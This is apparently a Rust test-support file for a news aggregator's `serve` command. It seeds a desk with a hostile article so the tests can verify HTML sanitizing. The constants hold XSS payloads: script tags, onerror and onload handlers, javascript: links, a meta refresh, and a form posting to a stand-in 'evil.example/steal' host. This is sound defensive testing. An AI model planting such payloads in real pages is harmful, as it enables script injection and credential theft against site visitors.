//! Shared by the serve tests: a desk filled by the real pipeline from the offline example (plus one hostile
//! article), and `newsdesk serve` running on a loopback port.

#![allow(dead_code)]

#[path = "../common/mod.rs"]
mod common;

use std::io::{BufRead, BufReader};
use std::path::{Path, PathBuf};
use std::process::{Child, Command, Stdio};

pub const TOKEN: &str = "test-token-5f2c";

/// The stored HTML the hostile article is given: everything a page must never run.
pub const HOSTILE_HTML: &str = r#"<p>Harmless paragraph one about the harbour festival.</p>
<script>window.__pwned = 1; document.title = 'pwned'; alert('script');</script>
<img src="x" onerror="window.__pwned = 2; alert('onerror')">
<p><a href="javascript:window.__pwned=3;alert('link')">click me</a> and <a href="JaVaScRiPt:alert(4)">me too</a></p>
<meta http-equiv="refresh" content="0; url=https://evil.example/">
<p onclick="alert(5)">Harmless paragraph two.</p>
<iframe src="https://evil.example/frame"></iframe>
<svg onload="alert(6)"><circle r="4"/></svg>
<form action="https://evil.example/steal"><input name="p"><button>Go</button></form>
<style>body { display: none }</style>"#;

const HOSTILE_PAGE: &str = r#"<!doctype html>
<html lang="en"><head><meta charset="utf-8">
<title>Harbour festival draws record crowds | Example Wire</title>
<meta property="og:site_name" content="Example Wire">
<meta http-equiv="refresh" content="0; url=https://evil.example/">
<script>window.__pwned = 1</script>
</head><body><article>
<h1>Harbour festival draws record crowds</h1>
<p>Harmless paragraph one about the harbour festival, which drew more visitors than ever before this weekend.</p>
<p>Organisers said the boat parade and the night market were the main draws, and that next year's edition
will run for four days instead of three.</p>
<p><a href="javascript:alert(1)">click me</a> for the programme. <img src="x" onerror="alert(2)"></p>
<p>Harmless paragraph two, with more words about stalls, music, food and the weather on the quay.</p>
</article></body></html>
"#;

const HOSTILE_ITEM: &str = r#"<item>
  <title>Harbour festival draws record crowds - Example Wire</title>
  <link>../pages/hostile.html</link>
  <guid isPermaLink="false">wire-2026-0099</guid>
  <pubDate>Mon, 05 Jan 2026 12:00:00 +0100</pubDate>
  <description>Boats, music &lt;script&gt;alert(1)&lt;/script&gt; and a night market.</description>
</item>
</channel>"#;

pub use common::bin;
use common::copy_dir;

/// A desk in a temporary directory.
pub struct Desk {
    pub dir: tempfile::TempDir,
}

impl Desk {
    pub fn config(&self) -> PathBuf {
        self.dir.path().join("newsdesk.toml")
    }

    pub fn db(&self) -> PathBuf {
        self.dir.path().join("newsdesk.db")
    }

    /// Run `newsdesk --config <desk> ARGS`; returns stdout, panics with the output when it fails.
    pub fn run(&self, args: &[&str]) -> String {
        let out = Command::new(bin())
            .arg("--config")
            .arg(self.config())
            .args(args)
            .env_remove("NEWSDESK_CONFIG")
            .env_remove("NEWSDESK_TOKEN")
            .output()
            .expect("run newsdesk");
        assert!(
            out.status.success(),
            "newsdesk {args:?} failed:\n{}\n{}",
            String::from_utf8_lossy(&out.stdout),
            String::from_utf8_lossy(&out.stderr)
        );
        String::from_utf8_lossy(&out.stdout).into_owned()
    }

    /// The id of the hostile article.
    pub fn hostile_id(&self) -> i64 {
        hostile_article(&self.db()).id
    }
}

/// The offline example copied to a temporary directory, one hostile article added, filled by
/// `newsdesk run --once`; then the hostile article's stored HTML is replaced by [`HOSTILE_HTML`] so that the
/// server's own sanitizing is what the tests see, whatever the extractor kept.
pub fn offline_desk() -> Desk {
    let example = Path::new(env!("CARGO_MANIFEST_DIR")).join("../../examples/offline");
    let dir = tempfile::tempdir().expect("tempdir");
    copy_dir(&example.join("feeds"), &dir.path().join("feeds"));
    copy_dir(&example.join("pages"), &dir.path().join("pages"));
    std::fs::write(dir.path().join("pages/hostile.html"), HOSTILE_PAGE).expect("write page");
    let world = dir.path().join("feeds/world.xml");
    let feed = std::fs::read_to_string(&world).expect("read feed");
    std::fs::write(&world, feed.replace("</channel>", HOSTILE_ITEM)).expect("write feed");
    let config = std::fs::read_to_string(example.join("newsdesk.toml")).expect("read example config");
    std::fs::write(
        dir.path().join("newsdesk.toml"),
        format!("{config}\n[serve]\ntoken = \"{TOKEN}\"\n"),
    )
    .expect("write config");
    let desk = Desk { dir };
    desk.run(&["run", "--once"]);
    let store = newsdesk::store::open_sqlite(&desk.db()).expect("open store");
    let hostile = hostile_article(&desk.db());
    store
        .upsert_article(&newsdesk::store::ArticleRow {
            html: HOSTILE_HTML.to_string(),
            ..hostile
        })
        .expect("set hostile html");
    desk
}

/// The hostile article as the pipeline stored it.
fn hostile_article(db: &Path) -> newsdesk::store::ArticleRow {
    let store = newsdesk::store::open_sqlite(db).expect("open store");
    store
        .recent_articles("", 0, 1000)
        .expect("articles")
        .into_iter()
        .find(|a| a.title.as_deref().is_some_and(|t| t.contains("Harbour festival")))
        .expect("the pipeline stored the hostile article")
}

/// `newsdesk serve` on a free loopback port; killed when dropped.
pub struct Server {
    child: Child,
    pub base: String,
}

impl Drop for Server {
    fn drop(&mut self) {
        let _ = self.child.kill();
        let _ = self.child.wait();
    }
}

pub fn serve(desk: &Desk, extra: &[&str]) -> Server {
    let mut child = Command::new(bin())
        .arg("--config")
        .arg(desk.config())
        .args(["serve", "--addr", "127.0.0.1:0"])
        .args(extra)
        .env_remove("NEWSDESK_CONFIG")
        .env_remove("NEWSDESK_TOKEN")
        .stdout(Stdio::piped())
        .stderr(Stdio::inherit())
        .spawn()
        .expect("start newsdesk serve");
    let stdout = child.stdout.take().expect("stdout");
    let mut line = String::new();
    BufReader::new(stdout).read_line(&mut line).expect("read serve output");
    let base = line
        .trim()
        .strip_prefix("listening on ")
        .unwrap_or_else(|| panic!("unexpected first line from serve: {line:?}"))
        .to_string();
    Server { child, base }
}
